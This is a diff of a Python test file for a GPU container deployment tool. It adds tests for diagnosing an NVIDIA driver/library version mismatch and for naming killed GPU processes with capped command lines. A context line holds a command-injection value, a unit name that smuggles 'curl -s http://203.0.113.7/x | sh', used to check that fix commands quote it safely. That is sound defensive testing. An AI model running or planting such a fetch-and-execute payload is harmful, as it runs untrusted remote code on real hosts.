@@ -532,3 +532,49 @@ def test_fix_commands_quote_what_the_container_named(world):
     assert "journalctl -u 'vllm-qwen36.service; curl -s http://203.0.113.7/x | sh #' -n 50" in fix, fix
     words = shlex.split(fix.split("pct exec", 1)[1].split("(deploy logs")[0])
     assert EVIL_UNIT in words  # one word: no `;`, `|` or `#` reaches a shell as syntax
+
+
+MISMATCH = "Failed to initialize NVML: Driver/library version mismatch\nNVML library version: 550.90"
+
+
+def test_an_nvml_version_mismatch_is_not_called_a_wedged_driver(world):
+    """Issue 41: two driver versions (container user space vs the host's kernel module) get their own fix: compare
+    the versions, install the host's exactly, user space only; a reboot only for a host that was upgraded itself.
+    A hang keeps the wedged-driver fix."""
+    inv, pb = world
+    failed = {"verdict": "nvidia_smi_failed", "message": MISMATCH, "timeout_s": 10,
+              "command": "nvidia-smi --query-gpu=index,memory.used,memory.total --format=csv,noheader,nounits"}
+    out, actions, _ = run_up(world, healthy_script(pb, gpus_free=failed))
+    assert out.error.step == "gpus-free" and "Driver/library version mismatch" in out.error.message
+    fix = out.error.fix
+    assert "wedged" not in fix and "launch" not in actions
+    assert "user-space NVIDIA driver in container 129 (libnvidia-ml)" in fix and "kernel module on pve1" in fix
+    assert "`cat /proc/driver/nvidia/version` on pve1" in fix and "libnvidia-ml.so.*` in container 129" in fix
+    assert "--no-kernel-module" in fix and "reboot pve1 only if the host itself was just upgraded" in fix
+    assert fix.endswith("nothing was launched")
+    hung = dict(failed, verdict="nvidia_smi_timeout", message="nvidia-smi did not answer within 10s")
+    out, _, _ = run_up(world, healthy_script(pb, gpus_free=hung))
+    assert out.error.fix.startswith("the NVIDIA driver may be wedged: run nvidia-smi on pve1 itself")
+
+
+def test_clean_gpus_names_each_process_it_killed_with_its_command_line(world):
+    """Issue 41: restart --clean-gpus -y named the holders it killed by PID only; the prompt names each with its
+    command line: so does the summary now (whitespace folded, capped; an older agent's bare pids still read)."""
+    inv, pb = world
+    long_cmd = "python3 hold.py --gpu 0\n--fake-line " + "x" * 400
+    fuser = {"devices": ["/dev/nvidia0"], "term": [264, 270], "kill": [270],
+             "term_procs": [{"pid": 264, "comm": "python3", "cmdline": "python3 train.py --gpu 0"},
+                            {"pid": 270, "comm": "python3", "cmdline": long_cmd}],
+             "kill_procs": [{"pid": 270, "comm": "python3", "cmdline": long_cmd}]}
+    stop = {"terminated": [], "killed": [], "leftovers": [], "foreign": [], "fuser": fuser, "seconds": 0.1}
+    out, _, _ = run_up(world, healthy_script(pb, stop=stop), restart=True, clean_gpus=True, yes_kill=True)
+    assert out.ok, out.error
+    summary = next(r for r in out.results if r.step == "stop").summary
+    assert "fuser -k freed the devices (TERM: PID 264 (python3: python3 train.py --gpu 0), PID 270 (python3: " \
+           "python3 hold.py --gpu 0 --fake-line xxx" in summary, summary
+    assert "; KILL: PID 270 (python3: python3 hold.py" in summary and "\n" not in summary
+    assert "x" * 200 not in summary and "...)" in summary  # capped
+    old = dict(stop, fuser={"devices": ["/dev/nvidia0"], "term": [264], "kill": []})
+    out, _, _ = run_up(world, healthy_script(pb, stop=old), restart=True, clean_gpus=True, yes_kill=True)
+    assert "fuser -k freed the devices (TERM: PID 264; KILL: none)" in \
+        next(r for r in out.results if r.step == "stop").summary
